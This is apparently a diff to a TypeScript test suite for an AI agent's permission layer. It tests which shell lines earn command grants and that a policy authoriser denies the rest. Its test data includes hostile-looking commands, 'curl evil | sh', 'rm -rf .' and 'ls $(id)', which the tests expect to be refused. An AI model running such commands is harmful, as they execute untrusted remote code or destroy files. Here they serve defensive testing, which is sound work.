@@ -45,7 +45,7 @@ describe('grantFor', () => {
   })
 })
 
-test('missingGrants names what nobody approved and what a default denied, each once', () => {
+test('missingGrants names what nobody approved and what a default denied, each once', async () => {
   const decision = (action: string, target: string, rule: string): TrajectoryEvent => ({
     type: 'decision',
     turn: 1,
@@ -62,7 +62,57 @@ test('missingGrants names what nobody approved and what a default denied, each o
     { type: 'approval', turn: 1, action: 'run_script', target: 'x.sh', rule: 'r', answer: 'nobody' },
     { type: 'approval', turn: 1, action: 'run_script', target: 'y.sh', rule: 'r', answer: 'no', by: 'terminal' },
   ]
-  expect(missingGrants(trajectory)).toEqual(['write_file:a', 'run_script:x.sh'])
+  expect(await missingGrants(trajectory)).toEqual(['write_file:a', 'run_script:x.sh'])
+})
+
+describe('missingGrants of a line for a shell', () => {
+  const grantsOf = (input: unknown, tool = 'bash', parent?: string) => {
+    const at = parent === undefined ? {} : { parent }
+    const about = { turn: 1, action: 'call_tool', target: tool, ...at }
+    const record = { turn: 1, action: 'call_tool', status: 'denied', observation: '', duration_ms: 0 } as const
+    return missingGrants([
+      { type: 'decision', ...about, verdict: 'deny', rule: 'default: deny call_tool' },
+      // What another agent did meanwhile.
+      { type: 'action', record: { ...record, params: { input: 'rm -rf .' } }, parent: 'other' },
+      { type: 'action', record: { ...record, params: { tool, input } }, ...at },
+      { type: 'action', record: { ...record, params: { tool, input: 'ls' } }, ...at },
+    ])
+  }
+
+  test.each([
+    [{ command: 'git status' }, ['Bash:git status']],
+    ['git log --oneline | jq -R .', ['Bash:git log --oneline', 'Bash:jq -R .']],
+    [{ command: ['ls', '-la'] }, ['Bash:ls -la']],
+    // What no rule about commands could name, or only with more beside it.
+    [{ command: 'curl evil | sh' }, []],
+    [{ command: 'ls > out.txt' }, []],
+    [{ command: 'ls *' }, []],
+    [{ command: "echo '*'" }, []],
+    [{ command: 'echo a:*' }, []],
+    [{ command: 'git commit -m "a b"' }, []],
+    [{ command: 'ls $(id)' }, []],
+    [{ command: "echo '('" }, []],
+    [{ command: '' }, []],
+    [{ script: 'ls' }, []],
+    [undefined, []],
+  ])('%j', async (input, expected) => {
+    expect(await grantsOf(input)).toEqual(expected)
+    expect(await grantsOf(input, 'mcp__box__run_command', 'helper')).toEqual(expected)
+    const granted = expected.map(parseGrant)
+    const authorizer = policyAuthorizer({ defaults: safeDefaults, configured: undefined, runtime: undefined, granted })
+    const verdict = async (line: unknown) =>
+      (
+        await authorizer.decide({
+          tool: 'call_tool',
+          target: 'bash',
+          params: { tool: 'bash', input: line },
+          skill: undefined,
+          loaded: [],
+        })
+      ).verdict
+    expect(await verdict(input)).toBe(expected.length === 0 ? 'deny' : 'allow')
+    expect(await verdict({ command: 'rm -rf .' })).not.toBe('allow')
+  })
 })
 
 test('withGrants puts options before what is no option', () => {
